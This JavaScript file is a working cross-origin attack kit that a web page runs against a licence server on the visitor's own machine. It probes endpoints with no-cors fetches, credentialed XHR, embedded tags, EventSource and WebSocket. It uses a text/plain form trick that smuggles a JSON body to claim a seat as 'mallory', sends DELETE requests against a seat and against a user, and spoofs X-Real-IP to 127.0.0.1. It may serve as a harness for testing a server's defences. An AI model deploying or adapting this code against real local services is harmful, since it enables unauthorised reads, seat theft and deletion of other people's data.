// What a page can try against a server on its reader's machine. attack() answers with all that it could read.

const GETS = ["/healthz", "/v1/licence", "/v1/licence.html?lang=fa", "/v1/seats", "/v1/usage", "/metrics", "/v1/authorize"];
const SEATS = "/v1/seats";
const WANTED = JSON.stringify({ user: "mallory", client: "page" });

async function attack(target, token) {
  const bearer = { Authorization: `Bearer ${token}` };
  const named = { ...bearer, "Licence-User": "mallory", "Licence-Client": "page", "X-Real-IP": "127.0.0.1" };
  const json = { "Content-Type": "application/json" };
  const text = { "Content-Type": "text/plain" };
  const tries = [];
  for (const path of GETS) {
    const url = target + path;
    tries.push(["fetch", () => fetched(url)]);
    tries.push(["fetch, no-cors", () => fetched(url, { mode: "no-cors", credentials: "include" })]);
    tries.push(["fetch with token", () => fetched(url, { headers: named })]);
    tries.push(["XMLHttpRequest", () => requested("GET", url, {})]);
    for (const tag of ["img", "script", "iframe", "link"]) {
      tries.push([tag, () => embedded(tag, url)]);
    }
  }
  for (const path of [SEATS, `${SEATS}/heartbeat`]) {
    const url = target + path;
    const body = path === SEATS ? WANTED : JSON.stringify({ seats: ["seat_1"] });
    tries.push(["post as text", () => fetched(url, { method: "POST", mode: "no-cors", headers: text, body })]);
    tries.push(["post as JSON", () => fetched(url, { method: "POST", headers: json, body })]);
    tries.push(["post with token", () => fetched(url, { method: "POST", headers: { ...json, ...bearer }, body })]);
    tries.push(["post without a type", () => fetched(url, { method: "POST", mode: "no-cors", body: new Blob([body]) })]);
    tries.push(["XMLHttpRequest posts", () => requested("POST", url, { ...json, ...bearer }, body)]);
    tries.push(["beacon", () => fetched(url, { method: "POST", mode: "no-cors", keepalive: true, body })]);
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json"]) {
      tries.push([`form as ${kind}`, () => submitted(url, kind, body)]);
    }
  }
  for (const path of [`${SEATS}/seat_1`, "/v1/users/sara"]) {
    tries.push(["delete", () => fetched(target + path, { method: "DELETE", headers: bearer })]);
    tries.push(["delete, no-cors", () => fetched(target + path, { method: "DELETE", mode: "no-cors" })]);
  }
  tries.push(["EventSource", () => streamed(target + "/v1/licence")]);
  tries.push(["WebSocket", () => spoken(target.replace("http", "ws") + SEATS)]);
  const found = await Promise.all(tries.map(async ([how, go]) => [how, await go().catch(() => null)]));
  return found.filter(([, read]) => read).map(([how, read]) => `${how}: ${read}`);
}

async function fetched(url, how) {
  return (await fetch(url, how)).text();
}

function requested(method, url, headers, body) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = method === "GET";
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onloadend = () => done(request.responseText + request.getAllResponseHeaders());
    request.send(body);
  });
}

function embedded(tag, url) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done(inside(element));
    element.onerror = () => done(null);
    if (tag === "link") element.rel = "stylesheet";
    element[tag === "link" ? "href" : "src"] = url;
    document.body.append(element);
  });
}

function inside(element) {
  try {
    return element.contentDocument?.body?.textContent;
  } catch {
    return null;
  }
}

function submitted(url, kind, body) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    const form = document.createElement("form");
    const field = document.createElement("input");
    frame.name = `frame${document.querySelectorAll("iframe").length}`;
    document.body.append(frame, form); // an empty frame has loaded by the time it is in
    frame.onload = () => done(inside(frame));
    // As text/plain a field is sent as name=value: the JSON text with one more member, {"user":…,"z":"="}.
    field.name = body.slice(0, -1) + ',"z":"';
    field.value = '"}';
    form.append(field);
    Object.assign(form, { method: "post", action: url, enctype: kind, target: frame.name });
    form.submit();
  });
}

function streamed(url) {
  return new Promise((done) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (event) => done(event.data);
    source.onerror = () => (source.close(), done(null));
  });
}

function spoken(url) {
  return new Promise((done) => {
    const socket = new WebSocket(url);
    socket.onopen = () => done("a connection");
    socket.onerror = () => done(null);
  });
}
